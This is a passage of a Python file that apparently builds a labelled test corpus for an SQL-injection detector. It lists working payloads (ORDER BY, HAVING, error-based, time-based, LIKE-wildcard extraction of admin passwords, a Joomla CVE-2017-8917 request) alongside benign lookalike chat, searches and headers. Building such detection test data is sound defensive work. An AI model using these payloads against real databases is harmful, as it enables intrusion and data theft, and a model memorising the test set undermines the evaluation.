    "1 ORDER BY 1-- -",
    "1 ORDER BY 10-- -",
    "1' ORDER BY 5-- -",
    "1') ORDER BY 3#",
    "1\" ORDER BY 7-- -",
    "1 ORDER BY 6382-- -",
    # boolean-based blind in ORDER BY / GROUP BY: MySQL, PostgreSQL, SQL Server, Oracle
    "1,(SELECT (CASE WHEN (2213=2213) THEN 1 ELSE 2213*(SELECT 2213 FROM INFORMATION_SCHEMA.PLUGINS) END))",
    "1,(SELECT (CASE WHEN (2213=2213) THEN 1 ELSE 1/(SELECT 0) END))",
    "1,(SELECT (CASE WHEN (2213=2213) THEN 1 ELSE 2213*(SELECT 2213 UNION ALL SELECT 5564) END))",
    "1,(SELECT (CASE WHEN (2213=2213) THEN 1 ELSE CAST(1 AS INT)/(SELECT 0 FROM DUAL) END) FROM DUAL)",
    # error-based in ORDER BY (MySQL EXTRACTVALUE, UPDATEXML, FLOOR)
    "1,EXTRACTVALUE(4120,CONCAT(0x5c,0x717a766b71,(SELECT (ELT(4120=4120,1))),0x71626a7071))",
    "1,UPDATEXML(4120,CONCAT(0x2e,0x717a766b71,(SELECT (ELT(4120=4120,1))),0x71626a7071),9937)",
    "(SELECT 4120 FROM(SELECT COUNT(*),CONCAT(0x717a766b71,(SELECT (ELT(4120=4120,1))),0x71626a7071,FLOOR(RAND(0)*2)"
    ")x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)",
    # time-based in ORDER BY (MySQL, PostgreSQL)
    "1,(SELECT 5390 FROM (SELECT(SLEEP(5)))qRtb)",
    "1,(SELECT 5390 FROM PG_SLEEP(5))",
    "(CASE WHEN (5390=5390) THEN SLEEP(5) ELSE 1 END)",
    # sort-direction parameter (Nuclei/Ghauri)
    "ASC,(SELECT 1 FROM (SELECT(SLEEP(6)))a)",
    "name ASC,IF(1=1,SLEEP(5),0)",
    # Joomla com_fields list[fullordering] (CVE-2017-8917), the Nuclei request
    rq("option=com_fields&view=fields&layout=modal&list[fullordering]=updatexml(0x23,concat(1,md5(999999999)),1)"),
    # SQL Server: HAVING and GROUP BY errors name the query's columns one after another
    "1' HAVING 1=1--",
    "1' GROUP BY users.id HAVING 1=1--",
    "1' GROUP BY users.id,users.username HAVING 1=1--",
    # HAVING boolean (sqlmap's WHERE-or-HAVING test in a HAVING context)
    "1 HAVING 4408=4408",
    "1' HAVING 4408=4408-- -",
    # MySQL GROUP BY duplicate-key error with FLOOR(RAND(0)*2)
    "1 GROUP BY CONCAT(version(),FLOOR(RAND(0)*2)) HAVING MIN(0)-- -",
    # sqlmap "MySQL >= 5.1 error-based - PROCEDURE ANALYSE (EXTRACTVALUE)" for the LIMIT clause
    "1 PROCEDURE ANALYSE(EXTRACTVALUE(9517,CONCAT(0x5c,0x717a766b71,(SELECT (ELT(9517=9517,1))),0x71626a7071)),1)",
    # MySQL LIMIT clause: the INTO @ variable form (error and timing without UNION)
    "1 INTO @,@,@-- -",
]

# like/between/in operators: the tamper scripts that replace comparison operators (between, equaltolike,
# equaltorlike, greatest, symboliclogical), sqlmap's LIKE boundary, LIKE-wildcard blind extraction, IN lists and
# IN subqueries, ANY/ALL; target: MySQL, PostgreSQL, SQL Server, Oracle
OPERATORS: list[Entry] = [
    # between
    "1 AND 7012 BETWEEN 7012 AND 7012",
    "1 AND ORD(MID((IFNULL(CAST(DATABASE() AS NCHAR),0x20)),1,1)) NOT BETWEEN 0 AND 64",
    "1' AND 'kDqP' BETWEEN 'kDqP' AND 'kDqP'-- -",
    "1 AND ASCII(SUBSTRING((COALESCE(CAST(CURRENT_USER AS VARCHAR(10000))::text,(CHR(32))))::text FROM 1 FOR 1)) NOT"
    " BETWEEN 0 AND 96",
    # equaltolike
    "1 AND 7012 LIKE 7012",
    "1' AND 'kDqP' LIKE 'kDqP",
    "-4518 UNION ALL SELECT NULL,table_name,NULL FROM INFORMATION_SCHEMA.TABLES WHERE table_schema LIKE 0x7465737464"
    "62-- -",
    # equaltorlike (MySQL)
    "1 AND 7012 RLIKE 7012",
    "1 AND DATABASE() RLIKE 0x5e74",
    # sqlmap's LIKE boundary: '%' closing a LIKE '%...%' search
    "1%' AND 6391=6391 AND '%'='",
    "1%' AND SLEEP(5) AND '%'='",
    "%' OR 6391=6391 AND 'qZr%'='qZr",
    "1%') AND 6391=6391 AND ('%'='",
    # LIKE wildcards for blind extraction (MySQL, SQL Server)
    "1 AND (SELECT username FROM users LIMIT 1) LIKE 'a%'",
    "1' AND (SELECT password FROM users WHERE username='admin') LIKE '5f4d%'-- -",
    "1 AND DATABASE() LIKE 0x7425",
    "1' AND (SELECT name FROM sysobjects WHERE xtype='U' ORDER BY name OFFSET 0 ROWS FETCH NEXT 1 ROWS ONLY) LIKE 'u"
    "%'--",
    # IN lists and IN subqueries
    "1 AND 7012 IN (7012)",
    "1 AND 1 IN (SELECT 1 FROM users WHERE username=0x61646d696e)",
    "1' AND DATABASE() IN (0x746573746462)-- -",
    "1) AND 7012 IN (SELECT 7012)-- -",
    "-1 OR 1 IN (SELECT @@version)-- -",
    # symboliclogical: AND/OR as && and ||
    "1 && 7012=7012",
    "-4518 || 7012=7012",
    "1' && SLEEP(5) && 'a'='a",
    # greatest (no '>' needed)
    "1 AND GREATEST(7012,7013)=7013",
    # ANY and ALL (PostgreSQL, SQL Server, Oracle)
    "1 AND 7012=ANY(SELECT 7012)",
    "1 AND 7012 = ALL (SELECT 7012 FROM DUAL)",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("sqli", "libinjection-sqli", LIBINJECTION),
    ("sqli", "sql-tautology-boolean", TAUTOLOGY),
    ("sqli", "sql-comment-sequence", COMMENT),
    ("sqli", "union-select", UNION),
    ("sqli", "stacked-queries", STACKED),
    ("sqli", "time-based-blind", TIME),
    ("sqli", "error-based", ERROR),
    ("sqli", "out-of-band", OOB),
    ("sqli", "information-schema-probing", CATALOG),
    ("sqli", "mysql-comment-obfuscation", MYCOMMENT),
    ("sqli", "function-based-probing", FUNCTION),
    ("sqli", "sql-authentication-bypass", AUTH),
    ("sqli", "nosql-injection", NOSQL),
    ("sqli", "hex-char-encoding", ENCODING),
    ("sqli", "stored-procedure-xp-cmdshell", PROC),
    ("sqli", "having-group-order-by-probing", ORDER),
    ("sqli", "like-between-in-operators", OPERATORS),
]
# sub-families whose fixed `name=value` entries (form bodies, query strings) go unquoted
RAW_KV_SUBS = {"stacked-queries", "error-based", "sql-authentication-bypass", "nosql-injection", "hex-char-encoding",
               "having-group-order-by-probing"}


# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    raw_subs = RAW_KV_SUBS
    names = ["id", "q", "cat", "username", "password", "sort", "uid", "search", "artist"]
    rs_names = ["id", "cat", "artist", "pid", "item", "user"]
    # a raw entry keeps what the tool wrote: its own percent-encoding too
    kv_safe = "=&[]._-:/'*$!(),;{}~@^\\%"
    raw_places = ("form", "query", "rs-query", "rs-raw-body", "rs-param-name")
    unique = True
    path_forbids = "/?#"
    raw_body_forbids = "&"
    raw_body_pair = True
    xml_controls = "\n\t"


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same tool names, keywords and syntax, typed innocently. A QA and DevOps team that runs security
# scanners in CI (pipeline configs described in prose, scan report summaries, ticket titles, searches for findings,
# links to tool docs, profiles, report file names), and ordinary users' traffic with quotes, dashes, brackets,
# percent signs and code-like text.
CHAT = [
    # CI and scanner chatter
    "nightly ZAP baseline scan finished: 0 high, 2 medium (missing CSP on /docs, cookie without SameSite)",
    "sqlmap job in the staging pipeline is green again, it was timing out on the login form because of the rate limit",
    "reminder: the DAST stage only runs against staging, never against prod. the allow-list is in the pipeline vars",
    "bumped nuclei to the latest release and refreshed the templates, the weekly run is Sunday 03:00 UTC",
    "the nuclei run flagged an exposed .git folder on the marketing site, ticket filed with web team",
    "Burp Enterprise license renewed until next June, thanks procurement",
    "can we drop the --risk 3 flag from the sqlmap job? it keeps creating junk rows in the staging users table",
    "sqlmap report for the search endpoint: all parameters appear to be not injectable, which is what we want",
    "I added --level 2 to the scan so it also tries cookies, runtime went from 4 to 11 minutes",
    "the tamper scripts option is off in CI, we only use the defaults for regression",
    "ZAP full scan found a reflected parameter on the old help page, it's already escaped, marking false positive",
    "new hire onboarding: read the runbook on how we triage scanner findings before touching the DAST config",
    "our WAF blocked the scanner's own user agent in staging, we whitelisted the CI runner IP for the scan window",
    "NoSQLMap doesn't support our auth flow, we wrote a small script with the mongo operators instead",
    "the union-based finding from last quarter is closed, the report page uses bound parameters now",
    "time-based checks are flaky on the shared runner, the p95 latency is already above 3 seconds",
    "Acunetix trial expired, we're sticking with ZAP plus nuclei for now",
    "ghauri vs sqlmap comparison doc is in the wiki, short version: same findings, sqlmap has more tampers",
    "the pipeline now fails the build on any high severity finding, mediums go to the backlog",
    "please don't point the scanners at the payments sandbox, the vendor will rate limit us for a week",
    "scan results are uploaded as SARIF so they show up in the code scanning tab",
    "dalfox and xsstrike found nothing on the new profile page, CSP is doing its job",
    "the order-by parameter on the reports API only accepts column names from a whitelist now",
    "someone asked why the scanner sends 1=1 in every field: it's checking whether the query changes, that's all",
    "heads up: scanner traffic will spike between 02:00 and 04:00 tonight, it's the quarterly full scan",
    "the WAF false positive on names with apostrophes (O'Neil, D'Arcy) is fixed in the new rules",
    "I set the nuclei severity filter to medium,high,critical so the info templates stop spamming the channel",
    "sqlmap --batch --forms crawled the admin panel in staging, no injectable forms, csrf tokens handled fine",
    "xp_cmdshell finding on the legacy reporting server was a config check, the feature is disabled",
    "the pentest firm's report mentions stacked queries on an old endpoint that we removed in 2022",
    # ordinary engineering and support chat
    "select * from users where team = 'infra' returns 42 rows, matches the HR export",
    "the migration adds a unique index on (tenant_id, email) and drops the old one",
    "report query: group by region having count(*) > 10 order by count desc, looks right",
    "the search box treats % and _ literally now, so 100% cotton finds the right product",
    "our CSV export wraps names like \"Smith, John\" in quotes, Excel opens it fine",
    "customer typed -- in the notes field and the import job choked, fixed the parser",
    "Postgres 16 upgrade done, pg_stat_statements shows the slow query is the directory search",
    "the sleep(2) in the retry loop was removed, we use exponential backoff now",
    "benchmark results: 1,200 req/s on the directory API with p99 at 40ms",
    "the [draft] tag in ticket titles means don't pick it up yet",
    "union contract negotiations update from HR is in the all-hands notes",
    "if a user's name is null the UI shows 'unknown', please don't change that without asking design",
    "between 12:00 and 13:00 the support queue is covered by the EMEA team",
    "like we discussed, the admin panel search is case-insensitive and matches any part of the name",
    "we're rolling out 2FA for everyone with the admin role next week",
    "the hex color for the new brand is #1f6feb, it's in the design tokens",
    "password reset emails go out from no-reply@, if they land in spam check the SPF record",
    "char limit for bios is 280, emojis count as two",
    "who owns the stored procedures in the billing database? they block the MySQL 8 upgrade",
    "'where is the VPN config?' is the most common ticket this week, adding it to the FAQ",
    # bios
    "QA engineer. I keep the DAST pipeline (ZAP, nuclei, sqlmap) green and the false positives low.",
    "DevSecOps. CI/CD, scanners, SARIF, and too many YAML files.",
    "AppSec lead. Threat modelling, pentest coordination, bug bounty triage.",
    "SRE on the edge team. nginx, Lua, WAF rules, on-call every 5th week.",
    "Database reliability engineer: Postgres, MySQL, backups and slow queries.",
    "Test automation with Playwright and pytest. Fan of deterministic fixtures.",
    "Security analyst, SOC day shift. I read scanner reports so you don't have to.",
    "Support engineer. O'Reilly books collector, part-time sysadmin.",
    "Pentester (OSCP, OSWE). Usually found poking at order by parameters.",
    "Release manager. Change freezes, go/no-go calls, and the occasional rollback.",
]

SEARCHES = [
    "sqlmap", "nuclei", "zap", "burp", "ghauri", "havij", "nosqlmap", "acunetix", "dast", "sast",
    "o'neil", "d'arcy", "O'Reilly", "Jean-Luc", "smith-jones", "union", "select", "order", "group", "having",
    "sleep", "benchmark", "waitfor", "null", "true", "1", "100%", "50% off", "[draft]", "(temp)",
    "admin", "dba", "qa team", "security", "scanner", "pentest", "tamper", "risk", "level", "like",
    "between", "in", "hex", "char", "concat", "mongo", "where", "schema", "procedure", "report",
]

URLS = [
    "https://github.com/sqlmapproject/sqlmap/wiki/Usage",
    "https://github.com/sqlmapproject/sqlmap/wiki/Techniques",
    "https://sqlmap.org/",
    "https://docs.projectdiscovery.io/tools/nuclei/running",
    "https://github.com/projectdiscovery/nuclei-templates",
    "https://www.zaproxy.org/docs/docker/baseline-scan/",
    "https://www.zaproxy.org/docs/alerts/40018/",
    "https://portswigger.net/burp/documentation/scanner",
    "https://portswigger.net/burp/documentation/collaborator",
    "https://github.com/r0oth3x49/ghauri",
    "https://github.com/codingo/NoSQLMap",
    "https://github.com/hahwul/dalfox",
    "https://owasp.org/www-project-web-security-testing-guide/",
    "https://cheatsheetseries.owasp.org/cheatsheets/Query_Parameterization_Cheat_Sheet.html",
    "https://docs.github.com/en/code-security/code-scanning/integrating-with-code-scanning/sarif-support-for-code-sc"
    "anning",
    "https://gitlab.com/gitlab-org/security-products/dast",
    "https://dev.mysql.com/doc/refman/8.0/en/string-functions.html",
    "https://www.postgresql.org/docs/current/functions-string.html",
    "https://learn.microsoft.com/en-us/sql/t-sql/functions/string-functions-transact-sql",
    "https://www.mongodb.com/docs/manual/reference/operator/query/",
    "https://jira.example.com/browse/SEC-1142?filter=open%20findings&sort=priority",
    "https://ci.example.com/pipelines/8812/jobs/dast-sqlmap/artifacts/report.html",
    "https://grafana.example.com/d/edge?var-route=%2Fapi%2Fusers&from=now-24h",
    "https://wiki.example.com/QA/Scanner_Triage_(2024)",
    "https://shop.example.com/search?q=100%25+cotton&sort=price_asc",
]

PROSE = [
    "sqlmap scan report - staging - week 23",
    "nuclei findings (medium and above)",
    "ZAP baseline: missing anti-clickjacking header",
    "[SEC-1142] false positive: apostrophe in last name blocked",
    "DAST pipeline owners",
    "scanner runner IP allow-list",
    "Burp Collaborator access request",
    "pentest retest - stacked queries finding (closed)",
    "order by whitelist for the reports API",
    "time-based blind checks disabled on shared runners",
    "union-based finding from Q1, verified fixed",
    "people with the dba role",
    "users created between 2024-01-01 and 2024-03-31",
    "names like 'Mc%'",
    "O'Connor, Siobhan",
    "D'Arcy-Smith",
    "Jean-Pierre (contractor)",
    "50% time on the QA guild",
    "group by team, having more than five members",
    "select committee for the hackathon",
    "sleep clinic partnership contacts",
    "benchmark working group",
    "null results in the export - investigate",
    "hex key rotation owners",
    "stored procedure migration - billing",
    "mongo cluster on-call",
    "where is the Berlin office?",
    "1:1 notes - QA sync",
    "release 2024.06 -- go/no-go",
    "[urgent] CI runner out of disk",
    "tamper-evident packaging vendor",
    "risk register review",
    "security champions (level 2)",
    "information schema docs request",
    "char grill team lunch",
    "true-up invoice for the scanner licenses",
    "waitfor-it coffee club",
    "like-for-like hardware refresh",
    "in-person QA day",
    "exec summary of the Q2 pentest",
]

PROFILES = [
    ("Siobhan O'Connor", "Dame St 14, Dublin"),
    ("Jean-Luc Martin", "Rue de la Paix 3, Paris"),
    ("Ana D'Arcy-Smith", "High St 22, Bristol"),
    ("Nuclei Labs GmbH", "Friedrichstr. 101, Berlin"),
    ("Union Hall Events", "Union Sq 1, San Francisco"),
    ("Select Hardware & Co.", "Main St 400, Des Moines"),
    ("Havij Persian Kitchen", "Vali Asr 12, Tehran"),
    ("Ghauri Textiles", "Mall Road 5, Lahore"),
    ("Burp & Barrel Brewery", "Harbour Way 8, Cork"),
    ("Zap Electric (Pty) Ltd", "Long St 77, Cape Town"),
    ("Order of St. John", "Clerkenwell 2, London"),
    ("Mongo Coffee Roasters", "Av. Paulista 900, São Paulo"),
    ("Group Seven Architects", "Canal St 7, Manchester"),
    ("Hex & Co. Tattoo", "Kruisstraat 4, Antwerp"),
    ("Between the Lines Books", "Queen St W 250, Toronto"),
]

UPLOAD_NAMES = [
    "sqlmap-report-2024-06-02.html", "nuclei-results.jsonl", "zap-baseline-report.html", "burp-scan-export.xml",
    "dast-findings.sarif", "pentest-report-Q2 (final).pdf", "retest_stacked-queries_closed.pdf",
    "scanner-allowlist.csv", "O'Connor_contract.pdf", "team roster [June].xlsx", "100% complete.png",
    "users-export-2024-06-01.csv", "schema_v42.sql", "mongo-dump-2024-06-01.tar.gz", "order-by-whitelist.md",
    "ghauri-vs-sqlmap.docx", "nuclei-templates-custom.zip", "benchmark (p99).csv", "union-contract-2024.pdf",
    "sleep-study-results.xlsx",
]

BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 "
                   "Safari/537.36"),
    ("User-Agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
                   "Gecko) Version/17.5 Mobile/15E148 Safari/604.1"),
    ("User-Agent", "GitLab-Runner 16.11.0 (16-11-stable; go1.21.9; linux/amd64)"),
    ("User-Agent", "python-httpx/0.27.0"),
    ("User-Agent", "okhttp/4.12.0"),
    ("User-Agent", "Go-http-client/2.0"),
    ("Referer", "https://ci.example.com/pipelines/8812/jobs/dast-sqlmap"),
    ("Referer", "https://github.com/sqlmapproject/sqlmap/wiki/Usage"),
    ("Referer", "https://docs.projectdiscovery.io/templates/introduction"),
    ("Referer", "https://www.zaproxy.org/docs/desktop/start/features/ascan/"),
    ("Referer", "https://app.example.com/admin/users?q=o%27connor&sort=name&order=asc"),
    ("Referer", "https://www.google.com/search?q=sqlmap+risk+level+difference"),
    ("X-Api-Version", "2024-06-01"),
    ("X-Request-Id", "7d2b9c41-0f3e-4a8b-b6d5-2e9f1c3a8b70"),
    ("X-CI-Job", "dast-nuclei #8812"),
    ("Accept-Language", "fr-CH,fr;q=0.9,en;q=0.8"),
    ("Cookie", "session=abc123; sort=last_name; order=desc"),
    ("Cookie", "session=abc123; last_search=o%27connor; theme=dark"),
    ("Cookie", "session=abc123; filter=role%3Adba; page_size=25"),
    ("If-Modified-Since", "Sat, 01 Jun 2024 10:00:00 GMT"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
